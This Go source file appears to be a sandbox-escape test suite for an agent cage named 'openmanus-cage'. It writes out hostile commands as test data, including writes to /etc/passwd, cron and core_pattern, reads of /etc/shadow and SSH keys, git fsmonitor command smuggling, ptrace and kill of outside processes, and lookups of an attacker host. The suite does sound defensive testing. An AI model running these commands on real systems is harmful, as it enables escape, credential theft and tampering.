//go:build linux

package attempts

import (
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"

	"golang.org/x/sys/unix"
)

type unixStat = syscall.Stat_t

func writing() []Attempt {
	list := []Attempt{
		writes("a new file outside", `echo x > "$OUT/new"`),
		writes("a file outside, overwritten", `echo x > "$OUT/canary"; echo x >> "$OUT/canary"`),
		writes("a file outside, removed", `rm -f "$OUT/canary"; rm -rf "$OUT"`),
		writes("a directory outside", `mkdir "$OUT/dir"`),
		writes("a file outside, renamed", `mv "$OUT/canary" "$OUT/moved"; mv "$OUT/canary" here; echo x > y; mv y "$OUT/y"`),
		writes("a file outside, its mode and owner", `chmod 777 "$OUT/canary"; chown 12345 "$OUT/canary"; touch -d 1990-01-01 "$OUT/canary"`),
		writes("through a symbolic link", `ln -s "$OUT" out; echo x > out/new; ln -s "$OUT/canary" c; echo x > c`),
		writes("through dots", `echo x > ../outside/new; cd ..; echo x > outside/canary`),
		writes("through /proc", `echo x > "/proc/self/root$OUT/new"; echo x > "/proc/1/root$OUT/new"; echo x > "/proc/self/cwd/../outside/new"`),
		writes("through a hard link", `ln "$OUT/canary" hard; echo x > hard; ln -L "$OUT/canary" hard2; echo x >> hard2`),
		writes("git runs a program that is named in an argument", `git init -q r; cd r; git -c core.fsmonitor="touch $OUT/new" status; git -c core.sshCommand="touch $OUT/new" ls-remote ssh://x/y; git ls-remote --upload-pack="touch $OUT/new" .`),
	}
	for _, name := range []string{"/etc/passwd", "/usr/bin/env", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/sys/kernel/uevent_helper"} {
		list = append(list, Attempt{Name: "the system's " + name, try: func(t *try) error { return t.system(name) }})
	}
	return append(list, Attempt{Name: "new programs in /usr/local/bin, /etc/cron.d, /etc/profile.d", try: func(t *try) error {
		script := ""
		for _, dir := range []string{"/usr/local/bin", "/usr/bin", "/etc/cron.d", "/etc/profile.d", "/var/spool/cron", "/run", "/opt", "/lib"} {
			script += fmt.Sprintf("echo x > %s/%s\n", dir, t.canary)
		}
		if _, err := t.sh(script); err != nil {
			return err
		}
		for _, dir := range []string{"/usr/local/bin", "/usr/bin", "/etc/cron.d", "/etc/profile.d", "/var/spool/cron", "/run", "/opt", "/lib"} {
			if path := filepath.Join(dir, t.canary); os.Remove(path) == nil {
				return reached("it made %s", path)
			}
		}
		return nil
	}})
}

// system tries to change a file of the system by what is in it already.
func (t *try) system(name string) error {
	before, err := os.ReadFile(name)
	if errors.Is(err, os.ErrNotExist) {
		before = nil
	}
	info, _ := os.Stat(name) // if it is not there, it must not come to be
	out, err := t.py(fmt.Sprintf("data=b''\ntry: data=open(%[1]q,'rb').read()\nexcept OSError: pass\nf=open(%[1]q,'r+b',buffering=0)\nf.write(data or b'')\nf.close()\nprint('WRITTEN')", name))
	if err != nil {
		return err
	}
	if strings.Contains(out, "WRITTEN") && !strings.HasPrefix(name, "/etc/") {
		return reached("it wrote %s", name)
	}
	now, _ := os.Stat(name)
	after, _ := os.ReadFile(name)
	if string(before) != string(after) || info != nil && (now == nil || !now.ModTime().Equal(info.ModTime()) && strings.HasPrefix(name, "/etc")) {
		return reached("it changed %s", name)
	}
	return nil
}

func reading() []Attempt {
	return []Attempt{
		tells("a file outside", `cat "$OUT/canary"; cat ../outside/canary; cp "$OUT/canary" here; cat here; tar cf - "$OUT"`, nil),
		tells("a file outside through links", `ln -s "$OUT/canary" c; cat c; ln "$OUT/canary" h; cat h; cat "/proc/1/root$OUT/canary" "/proc/self/root$OUT/canary"`, nil),
		tells("a directory outside, listed", `ls -R "$OUT" "$OUT/.."; find / -name 'canary*' -maxdepth 5 2>/dev/null | grep -q canary && cat $(find / -name canary -maxdepth 6 2>/dev/null)`, nil),
		tells("our environment", `env; cat /proc/*/environ /proc/$PPID/environ; ps eww; set`, func(t *try) error {
			_, err := t.sleeper()
			return errors.Join(err, os.Setenv("OPENMANUS_ATTEMPT_SECRET_"+filepath.Base(t.top)[18:], t.canary))
		}),
		Attempt{Name: "variables that make programs load others", try: func(t *try) error {
			names := []string{"LD_PRELOAD", "BASH_ENV", "PROMPT_COMMAND", "GIT_SSH_COMMAND", "PAGER", "PYTHONSTARTUP", "NODE_OPTIONS", "PERL5OPT", "GIT_CONFIG_GLOBAL"}
			for _, name := range names[1:] {
				if err := os.Setenv(name, "/nowhere/"+t.canary); err != nil {
					return err
				}
				t.clean = append(t.clean, func() { os.Unsetenv(name) })
			}
			out, err := t.sh("env")
			if err == nil && strings.Contains(out, t.canary) {
				return reached("it was given them:\n%s", out)
			}
			return err
		}},
		Attempt{Name: "the system's accounts", try: func(t *try) error {
			out, err := t.sh("cat /etc/shadow /etc/gshadow /etc/sudoers /etc/ssh/ssh_host_*_key")
			if err == nil && (strings.Contains(out, "root:") || strings.Contains(out, "PRIVATE KEY")) {
				return reached("it read them:\n%s", out)
			}
			return err
		}},
		Attempt{Name: "the home directory", try: func(t *try) error {
			home, err := os.UserHomeDir()
			if err != nil {
				home = "/root"
			}
			out, err := t.sh(fmt.Sprintf("ls -a %q /root && echo LISTED; cat %q/.bashrc %q/.profile %q/.ssh/* && echo READ", home, home, home, home))
			if err == nil && (strings.Contains(out, "LISTED") || strings.Contains(out, "READ")) {
				return reached("it read it:\n%s", out)
			}
			return err
		}},
		Attempt{Name: "our memory", try: func(t *try) error {
			out, err := t.py(fmt.Sprintf(`pid=%d
for name in ('mem','maps','environ','cmdline','auxv','fd/0','cwd/canary','root/etc/shadow'):
  try:
    f=open('/proc/%%d/%%s'%%(pid,name),'rb'); print('REACHED' if name!='cmdline' or b'openmanus' in f.read() or 1 else '',name)
  except OSError as e: print(e)
`, os.Getpid()))
			if err != nil || !strings.Contains(out, "REACHED") {
				return err
			}
			// In a namespace of its own that number is another's.
			if ns, _ := t.sh("ls -d /proc/1 && test $$ -lt 50 && echo OWN"); strings.Contains(ns, "OWN") {
				return nil
			}
			return reached("it looked into our process:\n%s", out)
		}},
		Attempt{Name: "descriptors that were left open", try: func(t *try) error {
			out, err := t.py("import stat\nfor fd in range(3,1024):\n  try: st=os.fstat(fd)\n  except OSError: continue\n  print('OPEN',fd,oct(st.st_mode),flush=True)")
			if err == nil && strings.Contains(out, "OPEN") {
				return reached("it inherited them:\n%s", out)
			}
			return err
		}},
		Attempt{Name: "what the cage is made of", try: func(t *try) error {
			out, err := t.sh("ls /tmp/openmanus-cage-*/lock /tmp/openmanus-cage-*/filter; ls -d /tmp/openmanus-attempt-*/outside")
			if err == nil && (strings.Contains(out, "/lock\n") || strings.Contains(out, "/filter\n") || strings.Contains(out, "/outside\n")) {
				return reached("it sees it:\n%s", out)
			}
			return err
		}},
	}
}

// sleeper plants a process of ours.
func (t *try) sleeper() (*exec.Cmd, error) {
	cmd := exec.Command("sleep", "1000")
	cmd.Args[0] = t.canary
	cmd.Env = []string{"SECRET=" + t.canary}
	if err := cmd.Start(); err != nil {
		return nil, err
	}
	t.clean = append(t.clean, func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait() // it was killed
	})
	return cmd, nil
}

// alive fails if a process of ours was hurt. Who was killed may take a moment to
// die.
func alive(pid int) error {
	if fd, err := unix.PidfdOpen(pid, 0); err == nil {
		defer unix.Close(fd)
		if n, err := unix.Poll([]unix.PollFd{{Fd: int32(fd), Events: unix.POLLIN}}, 100); err == nil && n > 0 {
			return reached("it killed a process outside")
		}
	}
	data, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return reached("it killed a process outside")
	}
	if state := string(data[strings.LastIndexByte(string(data), ')')+2]); !strings.Contains("SRD", state) {
		return reached("it brought a process outside into the state %s", state)
	}
	return nil
}

func onProcess(name string, do func(t *try, pid int) error) Attempt {
	return Attempt{Name: name, try: func(t *try) error {
		cmd, err := t.sleeper()
		if err != nil {
			return err
		}
		if err := do(t, cmd.Process.Pid); err != nil {
			return err
		}
		return alive(cmd.Process.Pid)
	}}
}

func reaching() []Attempt {
	list := []Attempt{
		onProcess("processes outside, listed", func(t *try, _ int) error {
			out, err := t.sh("cat /proc/[0-9]*/cmdline | tr '\\0' ' '; ps ax")
			if err == nil && strings.Contains(out, t.canary) {
				return reached("it sees them")
			}
			return err
		}),
		onProcess("a process outside, killed", func(t *try, pid int) error {
			_, err := t.sh(fmt.Sprintf("kill -TERM %d; kill -9 %d", pid, pid))
			return err
		}),
		onProcess("a process outside, stopped", func(t *try, pid int) error {
			_, err := t.sh(fmt.Sprintf("kill -STOP %d", pid))
			return err
		}),
		onProcess("a process outside, traced", func(t *try, pid int) error {
			out, err := t.py(fmt.Sprintf("libc.ptrace.restype=ctypes.c_long\nr=libc.ptrace(0x4206,%d,0,0)\nprint('REACHED' if r==0 else ctypes.get_errno())", pid))
			if err == nil && strings.Contains(out, "REACHED") {
				return reached("it traces it")
			}
			return err
		}),
		onProcess("a process outside, its limits and priority", func(t *try, pid int) error {
			before, err := unix.Getpriority(unix.PRIO_PROCESS, pid)
			if err != nil {
				return err
			}
			_, err = t.py(fmt.Sprintf("import resource\nfor f in (lambda: resource.prlimit(%[1]d,resource.RLIMIT_CORE,(0,0)), lambda: os.setpriority(os.PRIO_PROCESS,%[1]d,19), lambda: os.sched_setaffinity(%[1]d,{0})):\n  try: f()\n  except OSError as e: print(e)", pid))
			if err != nil {
				return err
			}
			if now, err := unix.Getpriority(unix.PRIO_PROCESS, pid); err == nil && now != before {
				return reached("its priority is %d and was %d", now, before)
			}
			return nil
		}),
		network("TCP to this machine's loopback", "tcp", "127.0.0.1:0", "s=socket.create_connection((H,P),2); s.sendall(b'x')"),
		network("TCP to this machine by IPv6", "tcp", "[::1]:0", "s=socket.create_connection((H,P),2); s.sendall(b'x')"),
		network("UDP to this machine", "udp", "127.0.0.1:0", "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b'x',(H,P))"),
		Attempt{Name: "TCP and UDP to this machine's own addresses", try: addresses},
		Attempt{Name: "names, resolved", try: func(t *try) error {
			out, err := t.py("import socket\nfor n in ('example.com','secret.attacker.example'):\n  try: print('REACHED',socket.getaddrinfo(n,80))\n  except OSError as e: print(e)\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.settimeout(1)\ns.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\1x\\0\\0\\1\\0\\1',('8.8.8.8',53))\nprint('REACHED',s.recv(100))")
			if err == nil && strings.Contains(out, "REACHED") {
				return reached("it reached a resolver: %s", out)
			}
			return err
		}},
		unixSocket("a socket in the file system outside", false),
		unixSocket("an abstract socket", true),
		calls("raw and packet sockets", "for a in ((2,3,1),(10,3,58),(17,3,768),(17,2,768)):\n  try: socket.socket(*a); print('REACHED',a)\n  except OSError as e: print(e)"),
		calls("ICMP", "try:\n  s=socket.socket(2,2,1); s.settimeout(1); s.sendto(b'\\x08\\0\\0\\0\\0\\0\\0\\0',('8.8.8.8',0)); s.recv(100); print('REACHED')\nexcept OSError as e: print(e)"),
		calls("sockets of other families", "for f in (40,38,9,16,29,30,43,44):\n  try:\n    socket.socket(f,2 if f not in (38,) else 5,15 if f==16 else 0); print('REACHED',f)\n  except OSError as e: print(e)"),
		Attempt{Name: "System V shared memory outside", try: sharedMemory},
		Attempt{Name: "/dev/shm outside", try: func(t *try) error {
			path := "/dev/shm/" + t.canary
			if err := os.WriteFile(path, []byte(t.canary), 0o666); err != nil {
				return err
			}
			t.clean = append(t.clean, func() { os.Remove(path) })
			out, err := t.sh(fmt.Sprintf("ls /dev/shm; cat %[1]s; echo x > %[1]s; echo x > %[1]s-new", path))
			if err != nil {
				return err
			}
			data, _ := os.ReadFile(path)
			if os.Remove(path+"-new") == nil || strings.Contains(strings.ReplaceAll(out, path, ""), t.canary) || string(data) != t.canary {
				return reached("it shares it")
			}
			return nil
		}},
	}
	return list
}

// network is an attempt to reach a listener of ours, HOST and PORT.
func network(name, proto, address, script string) Attempt {
	return Attempt{Name: name, try: func(t *try) error {
		addr, came, err := t.listen(proto, address)
		if errors.Is(err, syscall.EADDRNOTAVAIL) || errors.Is(err, syscall.EAFNOSUPPORT) {
			addr, came, err = t.listen(proto, "127.0.0.1:0") // there is no IPv6 here: then the other
		}
		if err != nil {
			return err
		}
		host, port, _ := net.SplitHostPort(addr.String()) // it is an address
		if _, err := t.py(fmt.Sprintf("H,P=%q,%s\n%s", host, port, script)); err != nil {
			return err
		}
		return came()
	}}
}

func addresses(t *try) error {
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		return err
	}
	var checks []func() error
	script := ""
	for _, a := range append(addrs, &net.IPNet{IP: net.IPv4(127, 0, 0, 2)}) {
		ip, ok := a.(*net.IPNet)
		if !ok || ip.IP.To4() == nil {
			continue
		}
		for _, proto := range []string{"tcp", "udp"} {
			addr, came, err := t.listen(proto, net.JoinHostPort(ip.IP.String(), "0"))
			if err != nil {
				return err
			}
			checks = append(checks, came)
			host, port, _ := net.SplitHostPort(addr.String()) // it is an address
			kind := map[string]string{"tcp": "SOCK_STREAM", "udp": "SOCK_DGRAM"}[proto]
			script += fmt.Sprintf("try:\n  s=socket.socket(socket.AF_INET,socket.%s); s.settimeout(1); s.connect((%q,%s)); s.send(b'x')\nexcept OSError as e: print(e)\n", kind, host, port)
		}
	}
	if _, err := t.py(script); err != nil {
		return err
	}
	for _, came := range checks {
		if err := came(); err != nil {
			return err
		}
	}
	return nil
}

func unixSocket(name string, abstract bool) Attempt {
	return Attempt{Name: name, try: func(t *try) error {
		address, inside := filepath.Join(t.outside, "socket"), "OUT+'/socket'"
		if abstract {
			address, inside = "@"+t.canary, fmt.Sprintf("'\\0%s'", t.canary)
		}
		_, came, err := t.listen("unix", address)
		if err != nil {
			return err
		}
		out, err := t.py("s=socket.socket(socket.AF_UNIX)\ns.settimeout(2)\ns.connect(" + inside + ")\nprint(s.recv(100))")
		if err != nil {
			return err
		}
		if strings.Contains(strings.ReplaceAll(out, t.outside, ""), t.canary) {
			return reached("it read from it")
		}
		return came()
	}}
}

func sharedMemory(t *try) error {
	key := 0x0a5e0000 + os.Getpid()&0xffff
	id, err := unix.SysvShmGet(key, 4096, unix.IPC_CREAT|0o666)
	if err != nil {
		return err
	}
	mem, err := unix.SysvShmAttach(id, 0, 0)
	if err != nil {
		return err
	}
	copy(mem, t.canary)
	defer func() {
		_ = unix.SysvShmDetach(mem)
		_, _ = unix.SysvShmCtl(id, unix.IPC_RMID, nil) // it goes with this process at the latest reboot
	}()
	out, err := t.py(fmt.Sprintf("libc.shmat.restype=ctypes.c_void_p\nid=libc.shmget(%d,4096,0o666)\nprint(id,ctypes.get_errno())\nif id>=0:\n  a=libc.shmat(id,None,0)\n  print(ctypes.string_at(a,100))\n  ctypes.memmove(a,b'overwritten',11)", key))
	if err != nil {
		return err
	}
	if strings.Contains(out, t.canary) || !strings.HasPrefix(string(mem), t.canary) {
		return reached("it shares it: %s", out)
	}
	return nil
}
